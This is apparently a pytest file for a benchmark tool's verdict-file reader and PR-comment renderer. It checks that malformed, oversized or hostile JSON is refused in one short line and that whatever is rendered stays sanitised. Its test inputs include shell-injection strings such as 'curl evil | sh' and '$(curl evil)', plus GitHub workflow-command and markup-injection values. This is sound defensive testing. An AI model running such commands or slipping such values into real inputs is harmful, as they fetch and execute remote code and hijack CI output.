"""Reading a verdict file that a stranger may have written: one clear line, or a tame page."""

import json
import os
from copy import deepcopy
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from test_gate_comment import SLOW

from lstmbench.errors import ResultFormatError
from lstmbench.gate import reading
from lstmbench.gate.comment import LARGEST, MARKER, comment

TEXT = SLOW.model_dump_json(by_alias=True)
DATA = json.loads(TEXT)


@pytest.fixture
def verdict(tmp_path: Path) -> Path:
    path = tmp_path / "verdict.json"
    path.write_text(TEXT)
    return path


def with_(data: dict, **fields: object) -> str:
    return json.dumps({**data, **fields})


# --- the command


def test_a_stored_verdict_is_rendered_as_it_was(tool, verdict: Path):
    assert tool("gate", "--read", str(verdict)) == (0, comment(SLOW), "")
    assert tool("gate", "--read", str(verdict), "--comment", "page.md") == (0, "", "")
    assert Path("page.md").read_text() == comment(SLOW)


def test_a_verdict_that_is_read_goes_into_no_job_summary(tool, verdict: Path, monkeypatch):
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", "summary.md")
    assert tool("gate", "--read", str(verdict))[0] == 0
    assert not Path("summary.md").exists()


@pytest.mark.parametrize("option", [("--base", "main"), ("--self-test",), ("-o", "x.json")])
def test_nothing_is_judged_beside_reading(tool, verdict: Path, option: tuple[str, ...]):
    code, out, err = tool("gate", "--read", str(verdict), *option)
    assert (code, out) == (2, "")
    assert err == ("Error: --read: expected nothing else but --comment, as nothing is judged\n")


def test_a_wrong_file_is_one_line_and_no_page(tool, verdict: Path):
    verdict.write_text(with_(DATA, reason="a\n::error::b", verdict="::stop-commands::x\n"))
    code, out, err = tool("gate", "--read", str(verdict), "--comment", "page.md")
    assert (code, out) == (2, "")
    assert err.startswith("Error: ")
    assert err.count("\n") == 1
    assert not Path("page.md").exists()


# --- what is refused


@pytest.mark.parametrize(
    ("text", "complaint"),
    [
        ("", "not JSON"),
        ("[]", "not an lstmbench verdict file"),
        ('{"schema": "lstmbench/result", "version": 1}', "not an lstmbench verdict file"),
        (with_(DATA, version=2), "expected version 1, got 2; update lstmbench"),
        (with_(DATA, version=True), "expected version 1, got True; it is damaged"),
        (with_(DATA, version="9" * 10**6), "it is damaged"),
        ("[" * 100_000 + "]" * 100_000, "not JSON"),
        (TEXT[:-1] + ', "more": ' + "[" * 900 + "]" * 900 + "}", "recursion limit"),
        (with_(DATA, seconds=float("nan")), "seconds: Input should be a finite number"),
        (with_(DATA, seconds=float("-inf")), "seconds: Input should be a finite number"),
        (with_(DATA, reason=float("nan")), "reason: Input should be a valid string"),
        (with_(DATA, seconds=1).replace('"seconds": 1', '"seconds": 1e999'), "seconds: Input"),
        (with_(DATA, seconds=1).replace('"seconds": 1', f'"seconds": {"9" * 5000}'), "not JSON"),
        (with_(DATA, seconds="1"), "seconds: Input should be a valid number"),
        (with_(DATA, rows={}), "rows: Input should be a valid"),
        (with_(DATA, rows=[{}]), r"rows\[0\].id: Field required .and 5 more"),
        (with_(DATA, verdict="<b>"), "verdict: Input should be 'passed', "),
        (with_(DATA, reason="\ud800"), "hex escape"),
        (with_(DATA, environment=None), "environment: Input should be an object"),
    ],
)
def test_what_is_no_verdict_file_is_told_in_one_short_line(
    verdict: Path, text: str, complaint: str
):
    verdict.write_text(text)
    with pytest.raises(ResultFormatError, match=complaint) as error:
        reading.read(verdict)
    assert len(str(error.value)) < len(str(verdict)) + 250


@pytest.mark.parametrize(
    "command",
    [
        "curl evil | sh",
        "lstmbench gate; curl evil",
        "lstmbench gate $(curl evil)",
        "lstmbench gate `evil`",
        "lstmbench gate &",
        "lstmbench gate '",
        "lstmbench gate\ncurl evil",
        "lstmbench run",
        "",
    ],
)
def test_no_command_but_the_gate_is_passed_on(verdict: Path, command: str):
    verdict.write_text(with_(DATA, command=command))
    with pytest.raises(ResultFormatError, match="command: expected one call of lstmbench gate"):
        reading.read(verdict)


def test_a_file_is_read_up_to_a_limit(verdict: Path):
    with verdict.open("ab") as file:
        file.truncate(reading.LARGEST + 1)
    with pytest.raises(ResultFormatError, match=r"at most 4\.00 MiB, got a larger one"):
        reading.read(verdict)


def test_a_million_wrong_rows_are_told_as_one(verdict: Path):
    verdict.write_text(with_(DATA, rows=[{}]).replace("[{}]", f"[{'{},' * 10**6}{{}}]"))
    with pytest.raises(ResultFormatError, match=r"rows\[0\].id: Field required .and 5 more"):
        reading.read(verdict)


def test_as_many_rows_as_fit_make_a_page_that_fits(verdict: Path):
    least = {name: DATA["rows"][0][name] for name in ("id", "data", "lengths", "backend")}
    row = json.dumps({**least, "threads": 1, "decision": "missing"})
    count = (reading.LARGEST - len(TEXT)) // (len(row) + 1)
    verdict.write_text(with_(DATA, rows="R").replace('"R"', f"[{','.join([row] * count)}]"))
    page = comment(reading.read(verdict))
    assert count > 30_000
    assert len(page.encode()) <= LARGEST
    assert "Left out, for length" in page


@pytest.mark.parametrize("what", ["missing", "folder", "pipe", "device"])
def test_only_a_file_is_read(tmp_path: Path, what: str):
    path = tmp_path / "it"
    if what == "folder":
        path.mkdir()
    elif what == "pipe":
        os.mkfifo(path)
    elif what == "device":
        path.symlink_to("/dev/zero")
    with pytest.raises(ResultFormatError, match=r"expected a verdict file, got (some|no)thing"):
        reading.read(path)


# --- what is tamed

PIECES = [
    *"|`<>&@#*_~[]()!\\\n\r\t\x00\x1b\u202e-.:/$ a",
    "@everyone",
    "::error::",
    "<!--",
    "x" * 400,
]
WORDS = st.lists(st.sampled_from(PIECES), max_size=20).map("".join)
NUMBERS = st.one_of(st.floats(), st.integers(), st.sampled_from([1e308, 5e-324, 10**400, -0.0, 0]))
ANYTHING = st.one_of(
    WORDS, NUMBERS, st.none(), st.booleans(), st.just([]), st.just({}), st.lists(NUMBERS)
)


def places(value: object, path: tuple = ()) -> list[tuple]:
    """The way to everything in a piece of JSON."""
    inner = value.items() if isinstance(value, dict) else enumerate(value)
    found = []
    for name, each in inner:
        found.append((*path, name))
        if isinstance(each, dict | list):
            found += places(each, (*path, name))
    return found


@settings(deadline=None, max_examples=400)
@given(st.lists(st.tuples(st.sampled_from(places(DATA)), ANYTHING), min_size=1, max_size=3))
def test_whatever_a_field_holds_it_is_one_line_or_a_tame_page(tmp_path_factory, changes):
    data = deepcopy(DATA)
    for path, value in changes:
        place = data
        for name in path[:-1]:
            try:
                place = place[name]
            except (KeyError, IndexError, TypeError):
                break
        else:
            if isinstance(place, dict) or (isinstance(place, list) and path[-1] < len(place)):
                place[path[-1]] = value
    file = tmp_path_factory.getbasetemp() / "fuzzed.json"
    file.write_text(json.dumps(data))
    try:
        result = reading.read(file)
    except ResultFormatError as error:
        refusal = str(error)
    else:
        refusal = None
    if refusal is not None:
        assert len(refusal) < 500
        return
    page = comment(result)
    assert page.startswith(MARKER + "\n")
    assert page.count("<!--") == 1
    assert len(page.encode()) <= LARGEST
    tags = {"details", "/details", "summary", "/summary", "code", "/code", "!--"}
    assert {piece.partition(">")[0].split(" ")[0] for piece in page.split("<")[1:]} <= tags
    assert {line.count("|") for line in page.splitlines() if line.startswith("|")} <= {9, 12}
    assert "@e" not in page
    assert not any(line.startswith("::") for line in page.splitlines())
    assert all(c.isprintable() or c == "\n" for c in page)
